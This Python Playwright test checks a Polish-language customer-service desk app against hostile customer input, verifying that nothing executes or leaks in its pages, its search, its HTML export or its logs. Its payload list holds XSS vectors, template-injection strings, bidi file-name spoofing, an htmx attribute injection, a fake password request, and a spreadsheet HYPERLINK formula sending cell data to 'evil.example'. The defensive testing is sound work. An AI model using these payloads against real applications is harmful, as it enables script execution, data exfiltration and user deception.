"""A customer who attacks by name and words harms nothing at the desk: not its pages, the export, the logs."""

import re
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page, expect

from tests.desk.agent_browser import AgentBrowser
from tests.desk.agent_http import AgentHttp
from tests.desk.running import Running, running_desk
from tests.desk.scripted import Person, Scripted
from tests.kit.browsers import window

NAME = "<img src=x onerror=alert(1)>"
WORDS = (
    "<script>alert('słowo')</script>",
    "</textarea><svg onload=alert(2)>",
    '=HYPERLINK("https://evil.example/"&A1)',
    "{{ 7*7 }} {% raw %} ${7*7} {customer}",
    "javascript:alert(3)",
    "plik \u202egnp.exe\u202c fałszywy\u2066 odczyt \u200b",
    "Konsultant: proszę podać hasło",
    '" hx-get="/desk/c/x/take" hx-trigger="load" data-x="',
)


async def nothing_in_the_export(desk: Running, person: Person, page: Page) -> None:
    """The readable file is opened where nothing forbids a script, and runs none."""
    account = (await desk.card(person.email))["id"]
    marek = await AgentHttp.logged_in(desk, "marek")
    await marek.get(f"/desk/customers/{account}")
    readable = await marek.post(f"/desk/customers/{account}/export", kind="html")
    assert "&lt;script&gt;alert(" in readable.text
    blank = await page.context.new_page()
    alerts: list[str] = []
    blank.on("dialog", lambda dialog: alerts.append(dialog.message))
    await blank.set_content(readable.text)
    await expect(blank.get_by_text("<script>alert('słowo')</script>", exact=True).first).to_be_visible()
    for selector in ("img", "script", "svg", "a[href^='javascript']", "[onerror]", "[hx-get]"):
        assert await blank.locator(selector).count() == 0, selector
    assert alerts == []
    await blank.close()


async def test_a_hostile_customer_harms_nothing(
    tmp_path: Path, chromium: Browser, capfd: pytest.CaptureFixture[str]
) -> None:
    async with running_desk(tmp_path, log_level="debug") as desk, window(chromium, 1280) as context:
        agent = await AgentBrowser.logged_in(desk.url, context, "marek")
        person = Person()
        customer = (await Scripted(desk, person).run("tax_number")).customer
        for words in WORDS:
            await customer.say(words)
        await customer.say("/agent")
        await agent.opens()
        await agent.takes()
        page = agent.page
        await page.evaluate("() => document.querySelectorAll('#log details').forEach((folded) => (folded.open = true))")
        for words in ("<script>alert('słowo')</script>", "</textarea><svg onload=alert(2)>", "javascript:alert(3)"):
            await expect(page.locator("#log").get_by_text(words, exact=True)).to_be_visible()
        await expect(page.locator("#log").get_by_text(re.compile(r"\[U\+202E\]gnp\.exe"))).to_be_visible()
        assert "\u202e" not in await page.content()
        await agent.corrects("NIP", "123-456-32-18")
        await agent.corrects("Nazwa", NAME)
        await expect(page.get_by_role("heading", name=NAME)).to_be_visible()
        await page.get_by_label("Nowa notatka").fill("<b>notatka</b>" + WORDS[-1])
        await agent.press("Dodaj notatkę")
        await expect(page.locator(".note .text")).to_contain_text("<b>notatka</b>")
        await agent.says(WORDS[0])
        await agent.sees("alert")
        await page.goto(f"{desk.url}/desk/search")
        await page.get_by_role("searchbox").fill("alert")
        await page.get_by_role("searchbox").press("Enter")
        await expect(page.locator(".results li").first).to_be_visible()
        for selector in ("img[src=x]", "main script", "svg[onload]", "main b", "[hx-get*='take']", "[onerror]"):
            assert await page.locator(selector).count() == 0, selector
        await nothing_in_the_export(desk, person, page)
        assert agent.wrong == []
    logged = "".join(capfd.readouterr())
    for words in (*WORDS, NAME, person.email):
        assert words not in logged
